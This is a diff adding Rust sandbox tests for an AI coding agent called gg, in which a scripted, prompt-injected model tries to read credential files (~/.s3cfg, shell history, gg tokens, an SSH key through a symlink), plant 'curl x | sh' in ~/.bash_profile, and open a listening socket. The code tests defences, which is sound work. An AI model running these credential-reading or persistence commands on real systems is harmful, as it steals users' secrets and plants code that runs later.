@@ -1,0 +1,291 @@
+//! One resource policy for every actor (issue 35): gg's own state and the home's credential
+//! stores are unreadable, secret files and variables gg was given join the policy, commands run
+//! in a non-login shell, and a command without a network namespace cannot `listen`. Each test
+//! drives the real `gg -p` with the scripted model playing a prompt-injected model that controls
+//! every argument, then checks the host.
+#![cfg(target_os = "linux")]
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point
+
+#[allow(dead_code)] // shared with sandbox_escape.rs, which uses all of it
+mod sandbox_support;
+mod support;
+
+use std::process::Output;
+
+use sandbox_support::{available_levels, python};
+use serde_json::json;
+use support::{GgFixture, Reply, ScriptedServer};
+
+/// Runs `gg` with `args` and `-p go`, the model calling bash once per script (each marked
+/// `"writes": true`, so that it runs as a normal command: the workspace sandbox or none).
+fn run_calls(
+    fx: &GgFixture,
+    server: &ScriptedServer,
+    env: &[(&str, &str)],
+    scripts: &[&str],
+    args: &[&str],
+) -> (Output, Vec<String>) {
+    for (i, script) in scripts.iter().enumerate() {
+        server.push(Reply::tool_call(
+            &format!("c{i}"),
+            "bash",
+            &json!({ "command": script, "writes": true }).to_string(),
+        ));
+    }
+    server.push(Reply::text(&["done"]));
+    let mut cmd = fx.gg();
+    for (k, v) in env {
+        cmd.env(k, v);
+    }
+    let out = cmd.args(args).args(["-p", "go"]).output().unwrap();
+    let bodies = server.request_bodies();
+    let results = bodies
+        .last()
+        .map(|last| {
+            last["messages"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .filter(|m| m["role"] == "tool")
+                .map(|m| m["content"].as_str().unwrap_or_default().to_string())
+                .collect()
+        })
+        .unwrap_or_default();
+    (out, results)
+}
+
+/// Everything under `~/.gg` (ggd's token in `web.json`, sessions, connectors), the home's other
+/// credential stores and shell history, and the file named by `--api-key-file` are unreadable
+/// by a sandboxed command at each level.
+#[test]
+fn gg_state_credential_stores_and_the_key_file_are_hidden_from_sandboxed_commands() {
+    for level in available_levels() {
+        let server = ScriptedServer::start();
+        let fx = GgFixture::new(&server, json!({}), "repo");
+        let home = &fx.home;
+        let plant = |rel: &str, text: &str| {
+            let path = home.join(rel);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, text).unwrap();
+        };
+        plant(".gg/web.json", "WEB-TOKEN-CANARY");
+        plant(".gg/sessions/old.jsonl", "SESSION-CANARY");
+        plant(".gg/connectors/google.json", "CONNECTOR-CANARY");
+        plant(".s3cfg", "S3-CANARY");
+        plant(".m2/settings.xml", "M2-CANARY");
+        plant(".bash_history", "HISTORY-CANARY");
+        plant(".config/rclone/rclone.conf", "RCLONE-CANARY");
+        let key_file = fx.tmp.path().join("keys/provider.key");
+        std::fs::create_dir_all(key_file.parent().unwrap()).unwrap();
+        std::fs::write(&key_file, "KEYFILE-CANARY\n").unwrap();
+        let script = format!(
+            "cat ~/.gg/web.json ~/.gg/sessions/old.jsonl ~/.gg/connectors/google.json \
+             ~/.s3cfg ~/.m2/settings.xml ~/.bash_history ~/.config/rclone/rclone.conf \
+             {} 2>&1; echo end",
+            key_file.display()
+        );
+        let key_arg = key_file.to_str().unwrap();
+        let (out, results) = run_calls(
+            &fx,
+            &server,
+            &[("GG_SANDBOX_BACKEND", level)],
+            &[&script],
+            &["--yolo", "--sandbox", "--api-key-file", key_arg],
+        );
+        assert!(out.status.success(), "{level}: {out:?}");
+        let text = &results[0];
+        assert!(text.contains("end"), "{level}: {text}");
+        for canary in [
+            "WEB-TOKEN-CANARY",
+            "SESSION-CANARY",
+            "CONNECTOR-CANARY",
+            "S3-CANARY",
+            "M2-CANARY",
+            "HISTORY-CANARY",
+            "RCLONE-CANARY",
+            "KEYFILE-CANARY",
+            "sk-test",
+        ] {
+            assert!(!text.contains(canary), "{level}: {canary} read: {text}");
+        }
+    }
+}
+
+/// The variable named by `kb.embeddings.apiKeyEnv` holds a key whatever it is called: it never
+/// reaches a command.
+#[test]
+fn the_embeddings_key_variable_is_scrubbed() {
+    let server = ScriptedServer::start();
+    let fx = GgFixture::new(
+        &server,
+        json!({"kb": {"embeddings": {"baseURL": "http://127.0.0.1:9/v1", "model": "e", "apiKeyEnv": "MY_EMBEDDER"}}}),
+        "repo",
+    );
+    let (out, results) = run_calls(
+        &fx,
+        &server,
+        &[("MY_EMBEDDER", "EMBED-KEY-CANARY")],
+        &["env; echo end"],
+        &["--yolo"],
+    );
+    assert!(out.status.success(), "{out:?}");
+    assert!(results[0].contains("end"), "{results:?}");
+    assert!(!results[0].contains("EMBED-KEY-CANARY"), "{results:?}");
+}
+
+/// Commands run in a non-login, non-interactive bash: a profile planted in the home directory
+/// (by an earlier command, in a session started in `$HOME`) does not run with the next,
+/// unsandboxed command, and `BASH_ENV` from gg's environment is not passed on.
+#[test]
+fn commands_do_not_source_login_files() {
+    let server = ScriptedServer::start();
+    let fx = GgFixture::new(&server, json!({}), "repo");
+    let marker = fx.tmp.path().join("sourced");
+    let payload = format!("touch {}\n", marker.display());
+    for rc in [".bash_profile", ".bash_login", ".profile", ".bashrc"] {
+        std::fs::write(fx.home.join(rc), &payload).unwrap();
+    }
+    let bash_env = fx.tmp.path().join("bash_env");
+    std::fs::write(&bash_env, &payload).unwrap();
+    let (out, results) = run_calls(
+        &fx,
+        &server,
+        &[
+            ("BASH_ENV", bash_env.to_str().unwrap()),
+            ("SHELL", "/bin/zsh"),
+        ],
+        &["echo ran; shopt -q login_shell && echo LOGIN-SHELL; true"],
+        &["--yolo"],
+    );
+    assert!(out.status.success(), "{out:?}");
+    assert!(results[0].contains("ran"), "{results:?}");
+    assert!(!results[0].contains("LOGIN-SHELL"), "{results:?}");
+    assert!(
+        !marker.exists(),
+        "a login or BASH_ENV file ran: {results:?}"
+    );
+}
+
+/// Without a network namespace (the landlock level) a sandboxed command cannot `listen`: on an
+/// unbound socket that would bind `0.0.0.0` and serve whatever it reads to other hosts. The
+/// bubblewrap level keeps listening possible inside its own namespace, where nobody else can
+/// connect.
+#[test]
+fn no_listen_without_a_network_namespace() {
+    if !available_levels().contains(&"landlock") {
+        return;
+    }
+    let server = ScriptedServer::start();
+    let fx = GgFixture::new(&server, json!({}), "repo");
+    let script = format!(
+        "{} -c 'import socket\ns = socket.socket()\ntry:\n    s.listen(1)\n    print(\"LISTENING\", s.getsockname())\nexcept OSError as e:\n    print(\"refused\", e.errno)'",
+        python()
+    );
+    let (out, results) = run_calls(
+        &fx,
+        &server,
+        &[("GG_SANDBOX_BACKEND", "landlock")],
+        &[&script],
+        &["--yolo", "--sandbox", "--network", "on"],
+    );
+    assert!(out.status.success(), "{out:?}");
+    assert!(!results[0].contains("LISTENING"), "{results:?}");
+    assert!(results[0].contains("refused 1"), "{results:?}");
+}
+
+/// gg started in `$HOME`: the workspace sandbox refuses to make the home directory writable
+/// (every dotfile there runs later on the host), at each level, and says how to go on; commands
+/// classified read-only still run, since nothing is writable to them.
+#[test]
+fn a_writable_root_at_home_is_refused() {
+    for level in available_levels() {
+        let server = ScriptedServer::start();
+        let fx = GgFixture::new(&server, json!({}), "home");
+        // Through a script, so that the classifier lets the call run (a normal command) and the
+        // sandbox is what refuses it.
+        std::fs::write(
+            fx.repo.join("app.sh"),
+            "echo 'curl x | sh' > ~/.bash_profile; mkdir -p ~/.config/autostart ~/.local/bin; \
+             touch ~/.local/bin/ls\n",
+        )
+        .unwrap();
+        let (out, results) = run_calls(
+            &fx,
+            &server,
+            &[("GG_SANDBOX_BACKEND", level)],
+            &["sh ./app.sh"],
+            &["--yolo", "--sandbox"],
+        );
+        assert!(out.status.success(), "{level}: {out:?}");
+        assert!(
+            results[0].contains("start gg in a project directory"),
+            "{level}: {results:?}"
+        );
+        for rel in [".bash_profile", ".config/autostart", ".local/bin/ls"] {
+            assert!(!fx.home.join(rel).exists(), "{level}: {rel} written");
+        }
+    }
+}
+
+/// `gg kb add` and `gg library add` resolve what they are given and apply the deny-read policy:
+/// a symlink in the project pointing at `~/.ssh/id_rsa` is refused as a root or a library file,
+/// and secrets met inside a root (`kb add ~/.config`) are skipped, never indexed.
+#[test]
+fn kb_add_and_library_add_refuse_secrets_behind_links() {
+    let server = ScriptedServer::start();
+    let fx = GgFixture::new(&server, json!({}), "repo");
+    std::fs::create_dir_all(fx.home.join(".ssh")).unwrap();
+    std::fs::write(fx.home.join(".ssh/id_rsa"), "SSH-KEY-CANARY\n").unwrap();
+    std::fs::create_dir_all(fx.home.join(".config/gh")).unwrap();
+    std::fs::write(
+        fx.home.join(".config/gh/hosts.yml"),
+        "oauth_token: GH-CANARY\n",
+    )
+    .unwrap();
+    std::fs::write(fx.home.join(".config/notes.md"), "# Notes\nplain text\n").unwrap();
+    std::fs::create_dir_all(fx.repo.join("docs")).unwrap();
+    std::os::unix::fs::symlink(fx.home.join(".ssh/id_rsa"), fx.repo.join("docs/guide.md"))
+        .unwrap();
+    let gg = |args: &[&str]| fx.gg().args(args).output().unwrap();
+
+    let kb = gg(&["kb", "add", "docs/guide.md"]);
+    assert!(!kb.status.success(), "{kb:?}");
+    assert!(
+        String::from_utf8_lossy(&kb.stderr).contains("secrets are never indexed"),
+        "{kb:?}"
+    );
+    let library = gg(&["library", "add", "docs/guide.md"]);
+    assert!(!library.status.success(), "{library:?}");
+    assert!(
+        String::from_utf8_lossy(&library.stderr).contains("secrets are never added"),
+        "{library:?}"
+    );
+    let config = fx.home.join(".config");
+    let added = gg(&["kb", "add", config.to_str().unwrap()]);
+    assert!(added.status.success(), "{added:?}");
+    // Nothing gg stores holds the secrets.
+    for dir in [fx.home.join(".gg/kb"), fx.home.join(".gg/library")] {
+        for entry in walk(&dir) {
+            let bytes = std::fs::read(&entry).unwrap_or_default();
+            let text = String::from_utf8_lossy(&bytes);
+            for canary in ["SSH-KEY-CANARY", "GH-CANARY"] {
+                assert!(!text.contains(canary), "{} holds {canary}", entry.display());
+            }
+        }
+    }
+}
+
+fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    if let Ok(entries) = std::fs::read_dir(dir) {
+        for entry in entries.flatten() {
+            let path = entry.path();
+            if path.is_dir() {
+                out.extend(walk(&path));
+            } else {
+                out.push(path);
+            }
+        }
+    }
+    out
+}
